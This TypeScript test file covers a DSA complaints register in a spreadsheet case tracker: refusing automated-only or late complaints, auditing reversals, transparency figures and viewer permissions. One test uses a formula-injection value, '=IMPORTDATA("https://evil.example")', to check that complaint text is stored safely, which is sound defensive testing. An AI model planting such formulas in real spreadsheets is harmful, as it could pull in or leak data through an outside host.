/**
 * Issue 21 through the built bundle: the complaints register (Art. 20 DSA) refuses a decision taken by no
 * person and a complaint after the 6-month window, a reversal restores the case and is audited, the answer
 * carries the clocks, and the "DSA transparency figures" menu item equals an independent count.
 */
import { callServerFunction } from '../../emulator/bridge/host';
import { DEFAULT_ROOT_CAUSES } from '../../src/core/taxonomy/defaults';
import { fingerprint } from '../security/support/fingerprint';
import { attachTracker } from '../support/intake-tracker';
import { newRequestId, OWNER, statementTracker } from '../support/statement-tracker';

const complaint = (overrides: Record<string, unknown> = {}) => ({
  requestId: newRequestId(),
  caseId: 'CB-2026-00002',
  informedAt: '2026-11-03T10:00:00Z',
  receivedAt: '2026-11-06T15:00:00Z',
  channel: 'In-app form',
  basis: 'Terms and conditions',
  grounds: 'The price had been reduced for real.',
  decision: 'Reversed',
  decidedAt: '2026-11-10T09:00:00Z',
  decidedBy: 'rui.review@governance.example',
  ...overrides,
});

function register(t: ReturnType<typeof statementTracker>, request: unknown) {
  const reply = callServerFunction(t.ws, { user: OWNER, spreadsheetId: t.spreadsheetId }, 'recordComplaint', [
    request,
  ]);
  if (!reply.ok) throw new Error(reply.error.message);
  return reply.value as Record<string, unknown>;
}

const caseField = (t: ReturnType<typeof statementTracker>, caseId: string, title: string) => {
  const values = t.cases.getDataRange().getValues();
  const header = values[0]!.map(String);
  return values.find((r) => r[header.indexOf('Case ID')] === caseId)?.[header.indexOf(title)];
};

test('an automated-only decision and a late complaint are refused; nothing is written', () => {
  const t = statementTracker(3);
  expect(register(t, complaint({ automatedOnly: true }))).toEqual({
    ok: false,
    problems: ['a complaint must be decided by a person, not solely by automated means (Art. 20(6) DSA)'],
    fieldProblems: {
      automatedOnly:
        'a complaint must be decided by a person, not solely by automated means (Art. 20(6) DSA)',
    },
  });
  expect(register(t, complaint({ receivedAt: '2027-05-04T10:00:00Z', decision: '', decidedAt: '' }))).toEqual(
    {
      ok: false,
      problems: [
        'the complaint arrived after the 6-month acceptance window; record it as late, not as a complaint',
      ],
      fieldProblems: {
        receivedAt:
          'the complaint arrived after the 6-month acceptance window; record it as late, not as a complaint',
      },
    },
  );
  expect(register(t, complaint({ caseId: 'CB-2026-09999' }))).toEqual({
    ok: false,
    problems: ['there is no case CB-2026-09999 in this tracker'],
  });
  expect(t.ss.getSheetByName('Complaints')).toBeNull();
  expect(caseField(t, 'CB-2026-00002', 'Misjudgement')).toBe('');
});

test('a reversal restores the case, is audited, and the answer carries the clocks', () => {
  const t = statementTracker(3);
  expect(register(t, complaint())).toEqual({
    ok: true,
    complaintId: 'CP-1',
    acceptanceEndsAt: '2027-05-03T21:59:59.999Z',
    // Friday 6 November + 10 working days: Friday 20 November, end of day in Berlin.
    handlingDueAt: '2026-11-20T22:59:59.999Z',
    caseChanged: ['appealStatus', 'misjudgement', 'overturnReason'],
  });
  expect([
    caseField(t, 'CB-2026-00002', 'Appeal status'),
    caseField(t, 'CB-2026-00002', 'Misjudgement'),
  ]).toEqual(['Overturned', 'Yes']);
  const audit = t.ss
    .getSheetByName('Audit log')!
    .getDataRange()
    .getValues()
    .map((r) => r.join(' | '));
  expect(audit.filter((l) => l.includes('Complaint decision restored the case'))).toHaveLength(3);
  expect(
    audit.some((l) => l.includes('CP-1: Terms and conditions, Reversed by rui.review@governance.example')),
  ).toBe(true);
  expect(
    register(t, complaint({ caseId: 'CB-2026-00003', decision: '', decidedAt: '', decidedBy: '' })),
  ).toMatchObject({
    ok: true,
    complaintId: 'CP-2',
    caseChanged: [],
  });
});

test('the transparency figures for a period equal an independent count', () => {
  const t = statementTracker(12);
  const requests = Array.from({ length: 9 }, (_, i) =>
    complaint({
      caseId: `CB-2026-${String(i + 1).padStart(5, '0')}`,
      receivedAt: `2026-11-${String(5 + i * 3).padStart(2, '0')}T10:00:00Z`,
      basis: i % 3 ? 'Terms and conditions' : 'Illegal content',
      decision: ['Upheld', 'Reversed', ''][i % 3],
      decidedAt: i % 3 === 2 ? '' : `2026-11-${String(7 + i * 3).padStart(2, '0')}T10:00:00Z`,
    }),
  );
  for (const r of requests) expect(register(t, r).ok).toBe(true);
  // Statements count once issued: all 12 exported.
  expect(t.click('Export statements of reasons')).toMatch(/^12 statement\(s\) exported/);
  // Typed day-first, as Settings "Date order" says by default.
  t.ws.answerNextDialog({ button: 'OK', text: '01/11/2026 to 30/11/2026' });
  t.ws.answerNextDialog({ button: 'OK' });
  const lines = String(t.click('DSA transparency figures')).split('\n');
  expect(lines[0]).toBe('01/11/2026 to 30/11/2026 (Europe/Berlin)');
  const text = lines.slice(1).join('\n');
  // Independent count from the requests and the cases written.
  const inNovember = requests.filter((r) => String(r.receivedAt) < '2026-12-01');
  const reversed = inNovember.filter((r) => r.decision === 'Reversed').length;
  const decided = inNovember.filter((r) => r.decision !== '');
  const illegal = inNovember.filter((r) => r.basis === 'Illegal content').length;
  expect(text.split('\n')[0]).toBe(
    `Complaints received: ${inNovember.length} (Illegal content ${illegal}, Terms and conditions ${inNovember.length - illegal}); decided: Reversed ${reversed}, Upheld ${decided.length - reversed}; open ${inNovember.length - decided.length}; reversed ${reversed}; median handling time 2 days.`,
  );
  // 12 cases applied 2-15 November (created_at days 2..15), all exported: all in the period, one category.
  expect(text.split('\n')[2]).toBe(
    'Statements of reasons: 12; by category: STATEMENT_CATEGORY_CONSUMER_INFORMATION 12; by restriction: visibility 12; by automation: AUTOMATED_DECISION_NOT_AUTOMATED 12.',
  );
});

test('a reversal reseals the case (a later save sees no sheet edit); grounds typed as a formula stay text', () => {
  const t = statementTracker(3);
  const grounds = '=IMPORTDATA("https://evil.example")';
  expect(register(t, complaint({ grounds })).ok).toBe(true);
  const complaints = t.ss.getSheetByName('Complaints')!.getDataRange();
  expect(
    complaints
      .getFormulas()
      .flat()
      .every((f) => f === ''),
  ).toBe(true);
  expect(complaints.getValues().flat()).toContain(grounds);
  const session = { user: OWNER, spreadsheetId: t.spreadsheetId };
  const view = callServerFunction(t.ws, session, 'getCaseView', [{ caseId: 'CB-2026-00002' }]);
  if (!view.ok) throw new Error(view.error.message);
  const { version } = (view.value as { view: { version: string } }).view;
  const saved = callServerFunction(t.ws, session, 'updateCase', [
    // An overturned appeal needs a root cause (the lifecycle rule); the person gives one with the save.
    { caseId: 'CB-2026-00002', version, changes: { severity: 'P1', rootCause: DEFAULT_ROOT_CAUSES[0] } },
  ]);
  expect(saved).toMatchObject({ ok: true, value: { ok: true } });
  expect(caseField(t, 'CB-2026-00002', 'Misjudgement')).toBe('Yes');
  const after = callServerFunction(t.ws, session, 'getCaseView', [{ caseId: 'CB-2026-00002' }]);
  if (!after.ok) throw new Error(after.error.message);
  const history = (
    after.value as { view: { history: { action: string; field: string; details?: string }[] } }
  ).view.history;
  // Only the save's own fields: nothing the reversal wrote shows up as an edit made in the sheet.
  expect(
    history
      .filter((h) => h.action === 'Edit')
      .map((h) => h.field)
      .sort(),
  ).toEqual(['Root cause', 'Severity']);
});

test('the figures menu item takes any period in the Settings date order and says what is wrong with bad input', () => {
  const t = statementTracker(3);
  t.click('Export statements of reasons');
  const ask = (text: string) => {
    t.ws.answerNextDialog({ button: 'OK', text });
    t.ws.answerNextDialog({ button: 'OK' });
    return String(t.click('DSA transparency figures'));
  };
  const usage = 'Write the period as dd/mm/yyyy to dd/mm/yyyy, for example 01/07/2026 to 31/12/2026.';
  expect(ask('31/11/2026 to 01/12/2026')).toBe(`"31/11/2026" is not a date. ${usage}`);
  expect(ask('01/12/2026 to 01/11/2026')).toBe(
    `The period ends (2026-11-01) before it starts (2026-12-01). ${usage}`,
  );
  expect(ask('last month')).toBe(`"last month" is not a period. ${usage}`);
  expect(ask('')).toBe(`No period given. ${usage}`);
  expect(t.ws.ui.dialogs.at(-1)?.prompt).toBe(`Nothing was counted. No period given. ${usage}`);
  // Month-first once Settings says so; a single day is a period too (Berlin's day, not UTC's).
  const settings = t.ss.getSheetByName('Settings')!;
  const keys = settings
    .getDataRange()
    .getValues()
    .map((r) => String(r[0]));
  settings.getRange(keys.indexOf('Date order') + 1, 2).setValue('MDY');
  const lines = ask('11/02/2026 - 11/02/2026').split('\n');
  expect(lines[0]).toBe('11/02/2026 to 11/02/2026 (Europe/Berlin)');
  // Case 1 applied on 2 November (created 09:00 UTC): the one statement issued that day.
  expect(lines[3]).toMatch(/^Statements of reasons: 1;/);
});

test('a viewer cannot record a complaint, not even the first one that would make the Complaints tab', () => {
  const s = statementTracker(3);
  const t = attachTracker(s.ws, s.spreadsheetId);
  const viewer = 'rui.view@governance.example';
  t.ws.addUser(viewer);
  t.ws.shareSpreadsheet(t.spreadsheetId, viewer, 'viewer');
  const before = fingerprint(t);
  const reply = callServerFunction(
    t.ws,
    { user: viewer, spreadsheetId: t.spreadsheetId },
    'recordComplaint',
    [complaint()],
  );
  expect(reply.ok ? '' : reply.error.message).toMatch(
    /^You can view this tracker but not edit it, so nothing was saved\./,
  );
  expect(t.ss.getSheetByName('Complaints')).toBeNull();
  expect(fingerprint(t)).toEqual(before);
});
